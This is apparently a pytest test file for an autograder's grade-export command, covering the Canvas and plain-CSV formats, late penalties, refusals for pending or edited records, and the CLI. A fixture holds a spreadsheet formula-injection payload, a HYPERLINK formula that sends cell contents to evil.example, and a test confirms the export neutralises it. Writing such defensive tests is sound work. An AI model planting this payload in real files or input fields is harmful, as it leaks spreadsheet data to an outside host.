"""``export``: the grades of record as Canvas's gradebook import or a plain CSV; only grades of record leave."""

import json

import pytest

from autograder.cli import main
from autograder.commands.export import export
from autograder.errors import KitError
from autograder.intake.naming import result_path
from autograder.records import seal
from autograder.records.handin import Commit, Handin
from autograder.records.results import GraderFailure, SubmissionResult, TestResult, save

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
INERT = '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"'  # the text mark first, quoted as CSV quotes


def _tests(code, written=None):
    tests = [TestResult(name="shapes", group="code", score=code, max_score=6.0,
                        status="passed" if code == 6.0 else "failed")]
    if written is not None:  # a written answer: graded, or pending in formgrader
        tests.append(TestResult(name="why", group="written", score=written if written != "pending" else 0.0,
                                max_score=4.0, status="pending" if written == "pending" else "passed"))
    return tuple(tests)


@pytest.fixture
def graded(tmp_path):
    """ada full marks, bo 2 days late (10%) on commit abc123, a hostile id with 3.5: written answers graded."""
    seal.ready()
    out = tmp_path / "out"
    late = Handin(late_days=2, late_percent=10.0, commit=Commit("abc123", "2025-01-03T00:00:00Z",
                                                                "2025-01-01T00:00:00Z"))
    for result in (SubmissionResult("ada", _tests(6.0, 4.0)), SubmissionResult("bo", _tests(6.0, 2.0), handin=late),
                   SubmissionResult(HOSTILE, _tests(3.5, 0.0))):
        save(result, result_path(out, result.student))
    return out


def test_canvas_gradebook_import_exact_header_points_row_and_rows(graded, tmp_path):
    path = export(graded, tmp_path / "canvas.csv", column="Homework 1 (4711)")

    assert path.read_bytes().decode() == (
        "Student,ID,SIS User ID,SIS Login ID,Section,Homework 1 (4711)\r\n"
        "Points Possible,,,,,10\r\n"
        f"{INERT},,,{INERT},,3.5\r\n"
        "ada,,,ada,,10\r\n"
        "bo,,,bo,,7\r\n")  # bo: 8 earned less 10% of 10 for two days late


def test_plain_csv_has_the_score_its_parts_and_the_commit(graded, tmp_path):
    path = export(graded, tmp_path / "grades.csv", fmt="csv")

    lines = path.read_text().splitlines()
    assert lines == [
        "student,score,max_score,earned,late_days,late_penalty,commit",
        f"{INERT},3.5,10,3.5,0,0,",
        "ada,10,10,10,0,0,",
        "bo,7,10,8,2,1,abc123"]


def test_a_hostile_id_is_inert_in_every_cell(graded, tmp_path):
    """A spreadsheet opening the export runs no formula: the id's cells start with the text mark."""
    import csv

    for fmt in ("canvas", "csv"):
        rows = list(csv.reader(export(graded, tmp_path / f"{fmt}.csv", fmt=fmt).open(newline="")))
        cells = [cell for row in rows for cell in row if "HYPERLINK" in cell]
        assert cells and all(cell == "'" + HOSTILE for cell in cells)


def test_pending_written_answers_refuse_the_export_unless_allowed(tmp_path):
    seal.ready()
    out = tmp_path / "out"
    for result in (SubmissionResult("ada", _tests(6.0, "pending")), SubmissionResult("bo", _tests(6.0, "pending")),
                   SubmissionResult("cy", _tests(6.0, 4.0))):
        save(result, result_path(out, result.student))

    with pytest.raises(KitError) as refused:
        export(out, tmp_path / "canvas.csv")
    assert str(refused.value) == ("export refused: 2 student(s) have written answers not graded yet: grade them in "
                                  "formgrader and run final-gradebook first (--allow-pending exports them as 0)")
    assert not (tmp_path / "canvas.csv").exists()

    path = export(out, tmp_path / "canvas.csv", allow_pending=True, column="HW")
    assert path.read_text().splitlines()[2:] == ["ada,,,ada,,6", "bo,,,bo,,6", "cy,,,cy,,10"]


def test_an_unsealed_record_refuses_the_export(graded, tmp_path):
    path = result_path(graded, "bo")
    data = json.loads(path.read_text())
    data["extra_data"]["handin"]["late_percent"] = 0  # the late penalty edited away after grading
    path.write_text(json.dumps(data))

    with pytest.raises(KitError, match=r"^export refused records not sealed by this grader \(edited after grading, "
                                       r"or written elsewhere\): 'bo'; regrade them with grade --resume$"):
        export(graded, tmp_path / "canvas.csv")
    assert not (tmp_path / "canvas.csv").exists()


def test_an_unfinished_grading_refuses_the_export(tmp_path):
    out = tmp_path / "out"
    save(SubmissionResult("ada", grader_failures=(GraderFailure("no_worker"),)), result_path(out, "ada"))
    with pytest.raises(KitError, match=r"^export refused: grading did not finish for 1 student\(s\) \(ada\)"):
        export(out, tmp_path / "canvas.csv")


def test_the_command_line(graded, tmp_path, capsys):
    assert main(["export", str(graded), "--to", str(tmp_path / "x.csv"), "--format", "nope"]) == 2
    assert capsys.readouterr().err == "error: unknown --format 'nope': one of canvas, csv\n"
    assert main(["export", str(graded), "--to", str(tmp_path / "x.csv"), "--column", "HW1"]) == 0
    assert capsys.readouterr().out == f"canvas export: {tmp_path / 'x.csv'} (3 student(s), column 'HW1')\n"
    assert (tmp_path / "x.csv").read_text().splitlines()[0] == "Student,ID,SIS User ID,SIS Login ID,Section,HW1"
